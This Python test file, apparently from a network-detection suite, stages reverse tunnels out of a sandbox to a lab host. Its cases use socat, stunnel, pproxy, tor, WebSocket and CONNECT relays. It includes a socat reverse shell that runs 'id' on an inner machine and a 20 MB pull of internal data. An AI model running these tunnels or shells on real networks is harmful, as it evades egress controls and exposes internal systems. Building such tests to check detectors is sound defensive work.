# SPDX-License-Identifier: Apache-2.0
"""Tunnels by programs that no list knows: written for the test, or general tools under another name."""

import os
import shutil
import subprocess
import time

import lib_far as far
import lib_net as net
import lib_tunnel as tunnel
from lib_case import TOP, Skipped, case


def reverse(c, command, came):
    c.call("ls")
    c.attack(command + " & " + c.until_done())
    c.call("true")
    c.begin()
    return came()


@case("tunnel", seconds=7, quick=True)
def relay_python(c):
    """a reverse tunnel of thirty lines of asyncio"""
    c.tool("relay.py", "worker.py")
    tunnel.browse(c, reverse(c, "python3 worker.py %s 443 %s 80" % (c.far, far.INNER), tunnel.wait(c, 443)))


@case("tunnel", seconds=7)
def relay_node(c):
    """the same for node"""
    c.tool("relay.mjs", "worker.mjs")
    tunnel.browse(c, reverse(c, "node worker.mjs %s 8443 %s 80" % (c.far, far.INNER), tunnel.wait(c, 8443)))


@case("tunnel", seconds=8)
def relay_python_bulk(c):
    """the same, one copy of 20 MB and nothing else"""
    c.tool("relay.py", "worker.py")
    browser = reverse(c, "python3 worker.py %s 9001 %s 80" % (c.far, far.INNER), tunnel.wait(c, 9001))
    c.mark()
    c.prove(len(browser.get("/bytes/20000000")) == 20000000, "20 MB of the internal network reached the far end")


@case("tunnel", seconds=7, quick=True)
def websocket(c):
    """a tunnel in WebSocket frames through an allowed host"""
    tunnel.browse(c, reverse(c, *tunnel.courier(c, 80, ws=True)))


@case("tunnel", seconds=7)
def websocket_tls(c):
    """the same inside of TLS"""
    tunnel.browse(c, reverse(c, *tunnel.courier(c, 443, ws=True, tls=True)))


@case("tunnel", seconds=7)
def http_upgrade(c):
    """a tunnel after an HTTP upgrade to a protocol that nobody knows"""
    tunnel.browse(c, reverse(c, *tunnel.courier(c, 80, upgrade="stream/1")))


@case("tunnel", seconds=7)
def connect_proxy(c):
    """a tunnel by CONNECT through an allowed proxy"""
    tunnel.browse(c, reverse(c, *tunnel.courier(c, 443, tls=True, proxy=[c.far, 3128])))


@case("tunnel", seconds=8, quick=True)
def two_calls(c):
    """a relay of two processes in two calls, joined by a unix socket: both are to blame"""
    command, came = tunnel.courier(c, 443, inner="/work/joint")
    c.tool("socat")
    c.attack("./worker UNIX-LISTEN:/work/joint,fork TCP:%s:80 >/dev/null 2>&1 & sleep 0.5" % far.INNER)
    c.attack(command + " & " + c.until_done())
    c.begin()
    tunnel.browse(c, came())


@case("tunnel", seconds=6, quick=True)
def socat_reverse(c):
    """socat: an inner service joined to a connection that goes out"""
    port = 2300 + c.number
    far.shell_server(c, port)
    listener = net.listen("far", c.far, 443)
    c.ends.callback(listener.close)
    c.tool("socat")
    c.attack("./worker TCP:%s:443 TCP:%s:%d & " % (c.far, far.INNER_SHELL, port) + c.until_done())
    c.begin()
    listener.settimeout(15)
    with listener.accept()[0] as s:
        c.mark()
        seen = far.type_commands(s, ["id", "hostname"], slow=False) + far.type_commands(s, ["ls /", "uptime"])
    c.prove(b"uid=" in seen, "the far end ran commands on an inner machine")


def local(c, start, port=9000):
    """A listener inside that leads out, used by the next call."""
    asked = []

    def handle(s):
        asked.append(net.read_until(s, b"\r\n\r\n"))
        s.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 200000\r\n\r\n" + b"x" * 200000)

    c.attack(start)
    c.partner("for i in 1 2 3 4 5; do curl -s --retry 9 --retry-connrefused http://127.0.0.1:%d/ | wc -c; sleep 0.4; done" % port)
    return asked, handle


def fetched(c, asked):
    c.begin()
    c.wait_for(lambda: asked, 15, "a request through the tunnel")
    c.mark()
    c.wait_for(lambda: len(asked) >= 5, 20, "five requests through the tunnel")
    c.prove(True, "the far server was asked %d times" % len(asked))


@case("tunnel", seconds=6)
def socat_forward(c):
    """socat: a listener inside joined to the far end, used by another call"""
    c.tool("socat")
    asked, handle = local(c, "./worker TCP-LISTEN:9000,fork,reuseaddr TCP:%s:8080 >/dev/null 2>&1 & sleep 0.5" % c.far)
    far.serve(c, 8080, handle)
    fetched(c, asked)


@case("tunnel", seconds=7)
def stunnel(c):
    """stunnel: a listener inside, TLS to the far end"""
    c.tool("stunnel")
    c.file("worker.conf", "foreground = no\npid = /work/pid\noutput = /work/log\n[x]\nclient = yes\naccept = 127.0.0.1:9000\nconnect = %s:443\n" % c.far)
    asked, handle = local(c, "./worker worker.conf; sleep 0.7")
    far.serve(c, 443, handle, net.tls())
    fetched(c, asked)


@case("tunnel", seconds=10)
def pproxy(c):
    """a proxy of PyPI that dials out and serves whoever sits at the far end"""
    where = TOP + "/build/detect/pypi"
    if not os.path.isdir(where + "/pproxy"):
        ran = subprocess.run(["pip3", "install", "-q", "--no-deps", "--target", where, "pproxy==2.7.9"], stderr=subprocess.PIPE, text=True, timeout=120)
        if ran.returncode:
            raise Skipped("pproxy is not to be had: " + ran.stderr.strip()[-200:])
    run = "import sys, asyncio\nsys.path.insert(0, %r)\nsys.argv[1:] = %r\nasyncio.set_event_loop(asyncio.new_event_loop())\nimport pproxy.server\npproxy.server.main()\n"
    shutil.copytree(where + "/pproxy", c.dir + "/lib/pproxy")
    c.file("worker.py", run % ("/work/lib", ["-l", "http+in://%s:8088" % c.far, "-l", "http://127.0.0.1:9999"]))
    c.file("../far.py", run % (where, ["-l", "http://%s:8000" % c.far, "-r", "http+in://%s:8088" % c.far]))
    far.start(c, ["/usr/bin/python3", c.base + "/far.py"])
    net.connect("far", c.far, 8000).close()
    c.attack("python3 worker.py >log 2>&1 & " + c.until_done())
    c.begin()
    time.sleep(2)
    for _ in range(6):
        with net.connect("far", c.far, 8000) as s:
            s.sendall(b"GET http://10.20.0.11/ HTTP/1.1\r\nHost: 10.20.0.11\r\nConnection: close\r\n\r\n")
            body = net.read_all(s)
        c.prove(b"inside 10.20.0.11" in body, "the far end read a page of the internal network")
        c.mark()
        time.sleep(0.5)


@case("tunnel", seconds=30, detectors=("tunnel", "probing"))
def tor(c):
    """tor on a network that is dead: it tries its directories, and none answers"""
    c.tool("tor")
    c.file("settings", "DataDirectory /work/data\nSocksPort 9050\nGeoIPFile /dev/null\nGeoIPv6File /dev/null\nLog notice file /work/log\n")
    attack = c.attack("timeout 25 ./worker -f settings --defaults-torrc /work/none --ignore-missing-torrc >/dev/null; true")
    c.begin()
    c.mark()
    c.replay.wait(60)
    ends = {(e["dst"], e["port"]) for e in c.events("--call", str(attack), "--kind", "connect") if e.get("dst") and "." in e["dst"]}
    with open(os.environ["WORLD"] + "/firewall.log") as file:
        seen = [line for line in file if any(" %s %d\n" % end in line for end in ends)]
    c.prove(len(seen) >= 3, "the firewall saw %d tries at tor's directories" % len(seen))
